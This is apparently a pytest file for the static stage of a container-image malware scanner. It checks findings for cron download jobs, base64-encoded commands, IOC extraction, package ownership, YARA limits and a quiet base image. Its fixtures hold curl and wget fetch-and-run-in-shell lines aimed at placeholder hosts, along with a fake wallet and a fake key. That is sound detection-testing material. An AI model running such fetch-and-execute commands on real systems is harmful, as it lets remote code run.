"""The static stage end to end over small rootfs trees: evidence, package ownership, caps,
and a base image that must stay quiet."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from detonate.model.filesystem import FileType
from detonate.model.findings import Severity
from detonate.model.image import HistoryEntry, ImageConfig
from detonate.model.options import StaticOptions
from detonate.progress import NullProgress
from detonate.static import ANALYZERS, analyze
from detonate.static.interface import AnalyzerResult
from detonate.static.packages import package_owned_paths
from static.rootfs_builder import SampleFile, build_rootfs, make_image

MONERO = "4A" + ("FakeMoneroWa11etForDetonateTestsXmr" * 3)[:93]
HOST_BUSYBOX = Path("/bin/busybox")


def scan(
    tmp_path: Path,
    files: list[SampleFile],
    config: ImageConfig | None = None,
    options: StaticOptions | None = None,
) -> AnalyzerResult:
    rootfs = build_rootfs(tmp_path / "rootfs", files)
    return analyze(make_image(config), rootfs, options or StaticOptions(), NullProgress())


def by_rule(result: AnalyzerResult) -> dict[str, object]:
    return {f.rule_id: f for f in result.findings}


def test_analyzers_are_an_explicit_list() -> None:
    assert [a.name for a in ANALYZERS] == ["config", "files", "yara", "iocs", "unpack"]


def test_file_finding_carries_path_layer_hash_and_excerpt(tmp_path: Path) -> None:
    cron = b"# m h dom mon dow\n*/5 * * * * curl -fsSL http://x.test/u.sh | sh\n"
    result = scan(tmp_path, [SampleFile("/etc/cron.d/update", cron, layer=2)])
    finding = by_rule(result)["file-cron-download-shell"]
    (evidence,) = finding.evidence  # type: ignore[attr-defined]
    assert finding.source == "static:files" and not finding.runtime_only  # type: ignore[attr-defined]
    assert (evidence.path, evidence.layer_index) == ("/etc/cron.d/update", 2)
    assert len(evidence.sha256) == 64 and evidence.sha256 in result.iocs.file_hashes
    assert evidence.excerpt == "*/5 * * * * curl -fsSL http://x.test/u.sh | sh"


def test_one_finding_per_rule_with_capped_evidence(tmp_path: Path) -> None:
    files = [SampleFile(f"/tmp/drop{i}", b"x%d" % i, 0o755) for i in range(30)]
    finding = by_rule(scan(tmp_path, files))["file-exec-in-volatile-dir"]
    evidence = finding.evidence  # type: ignore[attr-defined]
    assert len(evidence) == 21 and evidence[-1].description == "… and 10 more hits of this rule"


def test_history_finding_names_the_layer_and_decodes_base64(tmp_path: Path) -> None:
    config = ImageConfig(
        user="app",
        history=(
            HistoryEntry("/bin/sh -c #(nop) ADD file:1 in /"),
            HistoryEntry("/bin/sh -c #(nop) ENV A=1", empty_layer=True),
            HistoryEntry(
                "/bin/sh -c echo Y3VybCBodHRwOi8veC50ZXN0L3Auc2ggfCBzaA== | base64 -d | sh"
            ),
        ),
    )
    finding = by_rule(scan(tmp_path, [], config))["config-base64-to-shell"]
    (evidence,) = finding.evidence  # type: ignore[attr-defined]
    assert evidence.layer_index == 1 and evidence.description == "image config history #2"
    assert "[base64 decoded: curl http://x.test/p.sh | sh]" in evidence.excerpt


def test_iocs_come_from_config_and_files_but_not_from_package_files(tmp_path: Path) -> None:
    files = [
        SampleFile("/var/lib/dpkg/info/tool.list", b"/usr/bin/tool\n/usr/share/tool\n"),
        SampleFile("/usr/bin/tool", b"see http://owned.test/ and 192.0.2.50"),
        SampleFile("/usr/share/doc/x/README", b"http://docs.test/"),
        SampleFile("/opt/app/run.sh", b"#!/bin/sh\nwget http://payload.test/x\n", 0o755),
    ]
    config = ImageConfig(user="app", env=(f"WALLET={MONERO}",))
    result = scan(tmp_path, files, config)
    assert result.iocs.urls == ("http://payload.test/x",)
    assert result.iocs.domains == ("payload.test",)
    assert result.iocs.ips == () and result.iocs.wallets == (MONERO,)
    assert "ioc-monero-wallet" in by_rule(result)
    assert "ioc-mining-pool" not in by_rule(result)  # IOCs alone are not findings


def test_package_ownership_follows_merged_usr(tmp_path: Path) -> None:
    files = [
        SampleFile("/bin", type=FileType.SYMLINK, link_target="usr/bin"),
        SampleFile("/usr/bin/ls", b"elf"),
        SampleFile("/var/lib/dpkg/info/coreutils.list", b"/.\n/bin\n/bin/ls\n"),
        SampleFile("/lib/apk/db/installed", b"P:busybox\nF:usr/sbin\nR:crond\n"),
    ]
    owned = package_owned_paths(build_rootfs(tmp_path / "r", files))
    assert {"/bin/ls", "/usr/bin/ls", "/usr/sbin/crond"} <= owned


def test_yara_skips_files_over_the_cap_and_scans_duplicates_once(tmp_path: Path) -> None:
    script = b"#!/bin/sh\necho Y3VybCBodHRwOi8veC50ZXN0L3Auc2ggfCBzaA== | base64 -d | sh\n"
    files = [
        SampleFile("/opt/a.sh", script, 0o755),
        SampleFile("/opt/b.sh", script, 0o755),
        SampleFile("/opt/big.sh", script + b"#" * 4096, 0o755),
    ]
    result = scan(tmp_path, files, options=StaticOptions(yara_max_file_bytes=1024))
    paths = [e.path for e in by_rule(result)["base64-to-shell"].evidence]  # type: ignore[attr-defined]
    assert paths == ["/opt/a.sh", "/opt/b.sh"]


def test_a_symlink_swapped_in_on_disk_is_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "outside.pem"
    secret.write_text("-----BEGIN RSA PRIVATE KEY-----\nMIIFAKE\n")
    rootfs = build_rootfs(tmp_path / "rootfs", [SampleFile("/app/key.pem", b"harmless")])
    target = tmp_path / "rootfs" / "app" / "key.pem"
    target.unlink()
    os.symlink(secret, target)  # the index says "file": reading must not follow the link
    result = analyze(make_image(), rootfs, StaticOptions(), NullProgress())
    assert "file-private-key" not in by_rule(result)


def base_image_files() -> list[SampleFile]:
    busybox = HOST_BUSYBOX.read_bytes() if HOST_BUSYBOX.exists() else b"\x7fELF busybox"
    files = [
        SampleFile("/bin/busybox", busybox, 0o755),
        SampleFile("/bin/su", b"\x7fELF su", 0o4755),
        SampleFile("/usr/bin/passwd", b"\x7fELF passwd", 0o4755),
        SampleFile("/usr/bin/chage", b"\x7fELF chage", 0o2755),
        SampleFile("/etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:\n"),
        SampleFile("/etc/shadow", b"root:*:19000:0:99999:7:::\n", 0o640),
        SampleFile(
            "/etc/crontab",
            b"SHELL=/bin/sh\n25 6 * * * root test -x /usr/sbin/anacron"
            b" || run-parts --report /etc/cron.daily\n",
        ),
        SampleFile(
            "/etc/cron.daily/logrotate", b"#!/bin/sh\n/usr/sbin/logrotate /etc/lr.conf\n", 0o755
        ),
        SampleFile("/etc/os-release", b'HOME_URL="https://www.debian.org/"\n'),
        SampleFile("/etc/ld.so.conf", b"include /etc/ld.so.conf.d/*.conf\n"),
        SampleFile("/usr/share/doc/busybox/copyright", b"http://busybox.net/ 4.2.0.1"),
        SampleFile("/tmp", type=FileType.DIR, mode=0o1777),
    ]
    for applet in ("sh", "ls", "wget", "cat", "ps", "kill"):
        files.append(SampleFile(f"/bin/{applet}", type=FileType.SYMLINK, link_target="busybox"))
    return files


def test_base_image_yields_no_high_findings(tmp_path: Path) -> None:
    config = ImageConfig(
        cmd=("sh",),
        history=(
            HistoryEntry("/bin/sh -c #(nop) ADD file:4f0 in / "),
            HistoryEntry("/bin/sh -c apt-get update && apt-get install -y curl ca-certificates"),
            HistoryEntry('/bin/sh -c #(nop)  CMD ["sh"]', empty_layer=True),
        ),
    )
    result = scan(tmp_path, base_image_files(), config)
    loud = [f.rule_id for f in result.findings if f.severity not in (Severity.INFO, Severity.LOW)]
    assert loud == []
    assert {f.rule_id for f in result.findings} <= {"config-root-user", "file-cron-entry"}


@pytest.mark.skipif(not HOST_BUSYBOX.exists(), reason="needs Debian's busybox-static")
def test_real_busybox_binary_triggers_no_yara_rule(tmp_path: Path) -> None:
    result = scan(tmp_path, [SampleFile("/bin/busybox", HOST_BUSYBOX.read_bytes(), 0o755)])
    assert [f.rule_id for f in result.findings if f.source == "static:yara"] == []
